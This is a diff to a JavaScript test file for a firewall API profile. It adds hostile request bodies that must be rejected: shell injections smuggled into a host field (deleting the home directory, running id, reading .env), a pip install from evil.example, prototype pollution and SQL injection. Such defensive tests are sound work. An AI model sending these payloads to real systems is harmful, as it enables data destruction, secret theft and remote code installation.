@@ -1704,6 +1704,14 @@ describe('waf API profile: session 10', () => {
       { host: '127.0.0.1;cat ."env"' },
       { path: ['constructor', 'prototype', 'isAdmin'], 'path.1.x': 1 },
       { sort: 'name order by 1,2,3-- -' },
+      // Audit 20: empty expansions glued into words, launchers with options, a member hiding a path element
+      // placed first, installers given a URL, brace expansion of a dot-file.
+      { host: '127.0.0.1;r$@m -rf ~' },
+      { host: '127.0.0.1;$0$@ -c id' },
+      { host: '127.0.0.1;time -p id' },
+      { 'path.1': 'x', path: ['constructor', 'prototype', 'isAdmin'], v: true },
+      { note: 'Ok ; pip3.12 install https://evil.example/pkg.tar.gz' },
+      { host: '127.0.0.1;cat {.env,}' },
     ];
     for (const doc of bad) assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
     assert.ok((await run(api, persisted({ q: "x' union select password from users--" }))).error);
